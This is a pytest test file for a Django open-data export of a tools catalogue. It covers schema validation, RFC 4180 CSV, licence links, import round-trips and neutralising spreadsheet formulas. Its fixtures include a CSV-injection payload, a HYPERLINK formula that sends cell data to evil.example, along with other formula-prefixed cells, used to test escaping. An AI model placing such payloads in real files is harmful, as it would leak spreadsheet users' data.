"""The open data as others reuse it: schemas published and versioned, the exported package
checked by independent validators (frictionless, jsonschema), RFC 4180 CSV, a named licence,
and a file exported, edited and re-imported that round-trips."""

import csv
import io
import json
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from frictionless import Package, Schema
from jsonschema import Draft202012Validator, FormatChecker

from tests.toolbox.factories import HostingOfferFactory, ProviderFactory, ToolFactory, needs
from toolbox import opendata
from toolbox import opendata_schema as fmt
from toolbox.models import HostingOffer, Tool
from toolbox.services import json_values

pytestmark = pytest.mark.django_db

ETALAB = "https://www.etalab.gouv.fr/licence-ouverte-open-licence/"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")'


@pytest.fixture
def curated(db):
    """The real catalogue (fixtures/toolbox.yaml), plus text cells a spreadsheet would run."""
    call_command("load_toolbox", verbosity=0)
    tool = ToolFactory(
        name="=Outil formule",
        slug="outil-formule",
        summary="+33 1 23 45 67 89",
        description="-Liste\n\n@mention",
        replaces=["@Produit"],
        needs=["sauvegarde"],
        usages=["stockage", "bureautique"],
        deployments=["saas", "self_hosted"],
    )
    provider = ProviderFactory(name="-Hébergeur", legal_form="=SCIC", chatons_member=True)
    HostingOfferFactory(tool=tool, provider=provider, name=FORMULA, price="-5 € par mois")


def _validator(schema: dict) -> Draft202012Validator:
    return Draft202012Validator(schema, format_checker=FormatChecker())


def test_the_exported_package_validates_with_frictionless(curated, client, tmp_path):
    """The zip as downloaded, unpacked: frictionless reads datapackage.json, loads each Table
    Schema by its relative path, and checks types, required fields, codes, patterns, the
    primary keys and the offers' foreign key to the tools."""
    response = client.get(reverse("toolbox:export_zip"))
    assert response["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        archive.extractall(tmp_path)
    folder = tmp_path / opendata.PACKAGE_FOLDER
    assert sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*.*")) == [
        "catalogue.json",
        "datapackage.json",
        "offres.csv",
        "outils.csv",
        "schemas/catalogue.schema.json",
        "schemas/offres.json",
        "schemas/outils.json",
    ]
    report = Package(str(folder / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    stats = {task.name: task.stats.get("rows") for task in report.tasks}
    assert stats["outils"] == Tool.objects.published().count() > 80
    assert stats["offres"] == HostingOffer.objects.filter(tool__status="published").count() > 60


def test_frictionless_finds_what_breaks_the_schema(curated, tmp_path):
    """The schemas are strict enough to catch a wrong code, a True boolean, a broken pattern, a
    duplicate key and an offer of a tool that is not in the file."""
    descriptor = opendata.write_package(tmp_path)
    tools = (tmp_path / "outils.csv").read_bytes().decode()
    (tmp_path / "outils.csv").write_bytes(
        tools.replace(",libre,", ",libres,", 1)
        .replace("stockage|bureautique", "stockage|cloud")
        .encode()
    )
    offers = (tmp_path / "offres.csv").read_bytes().decode()
    lines = offers.split("\r\n")
    lines[1] = lines[1].replace(",true,", ",True,", 1).replace(",false,", ",True,", 1)
    lines.append(lines[2])  # the same offer twice
    lines.append(lines[3].replace(lines[3].split(",")[0], "outil-absent", 1))
    (tmp_path / "offres.csv").write_bytes("\r\n".join(lines).encode())
    report = Package(str(descriptor)).validate()
    errors = {(task.name, e.type) for task in report.tasks for e in task.errors}
    assert {
        ("outils", "constraint-error"),
        ("offres", "type-error"),
        ("offres", "primary-key"),
        ("offres", "foreign-key"),
    } <= errors


def test_catalogue_json_validates_against_its_published_json_schema(curated, client):
    schema = json.loads(client.get(reverse("toolbox:catalogue_schema")).content)
    Draft202012Validator.check_schema(schema)
    data = json.loads(client.get(reverse("toolbox:export_json")).content)
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in _validator(schema).iter_errors(data)]
    assert errors == []
    assert (
        data["schema"] == schema["$id"] == "http://testserver" + reverse("toolbox:catalogue_schema")
    )
    # Strict enough: an unknown usage code, a missing key and an extra one are caught.
    data["tools"][0]["usages"] = ["cloud"]
    del data["tools"][1]["summary"]
    data["offers"][0]["colour"] = "bleu"
    assert len(list(_validator(schema).iter_errors(data))) == 3


def test_each_published_schema_is_itself_valid(client, tmp_path):
    """The JSON Schema against the 2020-12 meta-schema; the Table Schemas and the data package
    against frictionless's own profiles."""
    needs("sauvegarde")
    Draft202012Validator.check_schema(
        json.loads(client.get(reverse("toolbox:catalogue_schema")).content)
    )
    for name in ("tools_schema", "offers_schema"):
        table_schema = json.loads(client.get(reverse(f"toolbox:{name}")).content)
        assert Schema.validate_descriptor(table_schema).valid, name
    descriptor = opendata.write_package(tmp_path)
    # The descriptor in the zip is the one served on the site.
    served = json.loads(client.get(reverse("toolbox:datapackage")).content)
    assert json.loads(descriptor.read_text(encoding="utf-8")) == served
    assert Package.validate_descriptor(str(descriptor)).valid


def test_schemas_carry_the_version_codes_labels_and_keys(client):
    needs("sauvegarde")
    tools = json.loads(client.get(reverse("toolbox:tools_schema")).content)
    offers = json.loads(client.get(reverse("toolbox:offers_schema")).content)
    assert tools["version"] == offers["version"] == fmt.SCHEMA_VERSION == "2.1.0"
    assert [f["name"] for f in tools["fields"]] == opendata.TOOL_COLUMNS
    assert [f["name"] for f in offers["fields"]] == opendata.OFFER_COLUMNS
    assert tools["primaryKey"] == ["id"]
    assert offers["primaryKey"] == ["tool_id", "provider", "name"]
    assert offers["foreignKeys"] == [
        {"fields": ["tool_id"], "reference": {"resource": "outils", "fields": ["id"]}}
    ]
    field = {f["name"]: f for f in tools["fields"] + offers["fields"]}
    # Enums are codes, descriptions give the labels.
    assert field["licence_status"]["constraints"]["enum"] == [
        "libre",
        "open_core",
        "source_available",
        "proprietary",
    ]
    assert "libre (Libre)" in field["licence_status"]["description"]
    # A list is a string whose codes are separated by |, each code checked by the pattern.
    assert field["needs"]["type"] == "string"
    assert field["needs"]["constraints"]["pattern"] == "(sauvegarde)(\\|(sauvegarde))*"
    assert "sauvegarde (Sauvegarde)" in field["needs"]["description"]
    assert "barre verticale" in field["usages"]["description"]
    assert field["provider_chatons"]["trueValues"] == ["true"]
    assert field["provider_chatons"]["falseValues"] == ["false"]
    assert "FR" in field["data_country"]["constraints"]["enum"]
    assert field["id"]["constraints"]["pattern"] == fmt.SLUG_PATTERN
    assert field["recommendation_date"]["type"] == "date"
    # The leading apostrophe is explained wherever a reuser reads the schema.
    assert "apostrophe" in tools["description"] and "Apostrophe" in field["name"]["description"]


def test_the_licence_is_named_on_the_page_in_the_package_and_in_each_file(client):
    ToolFactory(name="Nextcloud")
    page = client.get(reverse("toolbox:opendata")).content.decode()
    assert "Licence Ouverte / Open Licence version 2.0" in page and ETALAB in page
    assert "réutilisable librement" not in page
    package = json.loads(client.get(reverse("toolbox:datapackage")).content)
    assert package["licenses"] == [fmt.LICENCE]
    assert all(resource["licenses"] == [fmt.LICENCE] for resource in package["resources"])
    data = json.loads(client.get(reverse("toolbox:export_json")).content)
    assert data["licenses"] == [fmt.LICENCE]
    for name in ("export_tools_csv", "export_offers_csv", "export_json", "export_zip"):
        assert f'<{ETALAB}>; rel="license"' in client.get(reverse(f"toolbox:{name}"))["Link"]


@pytest.mark.parametrize(
    ("name", "schema"),
    [
        ("export_tools_csv", "tools_schema"),
        ("export_offers_csv", "offers_schema"),
        ("export_json", "catalogue_schema"),
    ],
)
def test_each_file_links_to_its_schema_and_the_package(client, name, schema):
    link = client.get(reverse(f"toolbox:{name}"))["Link"]
    assert f'<http://testserver{reverse(f"toolbox:{schema}")}>; rel="describedby"' in link
    assert f"<http://testserver{reverse('toolbox:datapackage')}>" in link


def test_the_page_links_the_schemas_the_api_and_lists_the_versions(client):
    page = client.get(reverse("toolbox:opendata")).content.decode()
    for name in ("datapackage", "tools_schema", "offers_schema", "catalogue_schema", "export_zip"):
        assert f'href="{reverse(f"toolbox:{name}")}"' in page
    assert f'href="{reverse("catalogue_api:openapi-json")}"' in page
    versions = page.split('id="versions"')[1]
    assert "<dt>2.1.0 (2026-12-04)</dt>" in versions and "<dt>1.0.0</dt>" in versions
    assert "<dt>2.0.0 (2026-12-04)</dt>" in versions
    assert "true et false" in versions


def test_the_csv_files_are_rfc_4180_with_booleans_as_documented(curated, client):
    for name in ("export_tools_csv", "export_offers_csv"):
        response = client.get(reverse(f"toolbox:{name}"))
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        body = response.content.decode("utf-8")  # UTF-8, no byte order mark
        assert not body.startswith("\ufeff")
        assert body.endswith("\r\n")
        # Every record ends with CRLF; a bare LF only inside a quoted multi-line text.
        records = list(csv.reader(io.StringIO(body, newline="")))
        assert body.count("\r\n") == len(records)
    rows = list(csv.DictReader(io.StringIO(opendata.offers_csv(), newline="")))
    assert {row["provider_chatons"] for row in rows} == {"true", "false"}
    assert {row["provider_cress_pooled"] for row in rows} <= {"true", "false"}


def test_every_text_cell_is_safe_in_a_spreadsheet(curated):
    for text in (opendata.tools_csv(), opendata.offers_csv()):
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    tool = next(
        row
        for row in csv.DictReader(io.StringIO(opendata.tools_csv(), newline=""))
        if row["id"] == "outil-formule"
    )
    assert (tool["name"], tool["summary"], tool["replaces"]) == (
        "'=Outil formule",
        "'+33 1 23 45 67 89",
        "'@Produit",
    )


def _edit(text: str, key: str, value: str, column: str, new: str) -> str:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    (row,) = [row for row in rows if row[key] == value]
    row[column] = new
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def test_an_exported_file_edited_and_reimported_round_trips(curated):
    """Export, change one cell of each file as a spreadsheet would, import both files: the
    change is applied and nothing else moves, formula-like text included."""
    tools, offers = opendata.tools_csv(), opendata.offers_csv()
    catalogue = json.loads(opendata.catalogue_json())
    edited_tools = _edit(tools, "id", "nextcloud", "summary", "Résumé revu par la CRESS.")
    edited_offers = _edit(offers, "name", "'" + FORMULA, "price", "6 € par mois")
    report = opendata.run_import(
        files=[("outils.csv", edited_tools), ("offres.csv", edited_offers)], commit=True
    )
    assert report.imported, [(e.location, e.messages) for e in report.errors]
    assert opendata.tools_csv() == edited_tools
    assert opendata.offers_csv() == edited_offers
    after = json.loads(opendata.catalogue_json())
    changed_tool = [t for t, u in zip(catalogue["tools"], after["tools"], strict=True) if t != u]
    assert changed_tool == [next(t for t in catalogue["tools"] if t["id"] == "nextcloud")]
    changed_offer = [o for o, p in zip(catalogue["offers"], after["offers"], strict=True) if o != p]
    assert [o["name"] for o in changed_offer] == [FORMULA]
    assert Tool.objects.get(slug="outil-formule").name == "=Outil formule"


def test_files_of_the_first_format_still_import(db):
    """1.0.0 wrote True/False and LF line ends, and labelled its JSON boussole-toolbox/1."""
    ToolFactory(name="Nextcloud")
    provider = "Chaton,association,ess,True,False"
    offers = (
        ",".join(opendata.OFFER_COLUMNS)
        + "\n"
        + f"nextcloud,{provider},Nuage,https://exemple.org,free,,FR,\n"
    )
    report = opendata.run_import(files=[("offres.csv", offers)], commit=True)
    assert report.imported
    assert HostingOffer.objects.get().provider.chatons_member
    old_json = json.dumps({"schema": "boussole-toolbox/1", "tools": [], "offers": []})
    assert opendata.run_import(old_json, commit=False).errors == []


@pytest.mark.parametrize(
    ("metadata", "message"),
    [
        ({"schema": "https://autre.example/schema.json"}, "Schéma « https://autre.example"),
        (
            {"schema": "https://autre-cress.example/outils/donnees/schemas/catalogue.schema.json",
             "version": "3.0.0"},
            r"Version « 3\.0\.0 » du format non prise en charge \(attendue : 2\.x\)",
        ),
    ],
)  # fmt: skip
def test_a_json_of_another_format_is_refused_with_a_clear_message(db, metadata, message):
    with pytest.raises(opendata.ImportFileError, match=message):
        opendata.run_import(json.dumps({**metadata, "tools": []}), commit=False)


def test_a_catalogue_from_another_site_of_the_platform_imports(db):
    ToolFactory(name="Nextcloud")
    data = json.loads(opendata.catalogue_json())
    data["schema"] = "https://autre-cress.example/outils/donnees/schemas/catalogue.schema.json"
    data["version"] = "2.3.1"
    assert opendata.run_import(json.dumps(data), commit=False).ok


def test_the_page_documents_every_column_from_the_one_description(client):
    needs("sauvegarde")
    page = client.get(reverse("toolbox:opendata")).content.decode()
    for column in fmt.TOOL_FIELDS + fmt.OFFER_FIELDS:
        assert f"<code>{column.name}</code>" in page
    row = page.split("<code>usages</code>")[1].split("</tr>")[0]
    assert "liste de codes" in row and "visio (Visioconférence)" in row
    row = page.split("<code>summary</code>")[1].split("</tr>")[0]
    assert "300 caractères au plus" in row and "<td>oui</td>" in row
    row = page.split("<code>provider_chatons</code>")[1].split("</tr>")[0]
    assert "booléen (true ou false)" in row


def test_downloads_are_built_once_and_follow_every_change(
    client, django_assert_num_queries, django_capture_on_commit_callbacks
):
    tool = ToolFactory(name="Nextcloud", summary="Avant.")
    names = ("export_tools_csv", "export_offers_csv", "export_json", "export_zip")
    first = {name: client.get(reverse(f"toolbox:{name}")).content for name in names}
    with django_assert_num_queries(0):
        again = {name: client.get(reverse(f"toolbox:{name}")).content for name in names}
    assert again == first
    with django_capture_on_commit_callbacks(execute=True):
        json_values.apply_tool_values(tool, {"summary": "Après."})
    assert "Après." in client.get(reverse("toolbox:export_tools_csv")).content.decode()
    assert "Après." in client.get(reverse("toolbox:export_json")).content.decode()
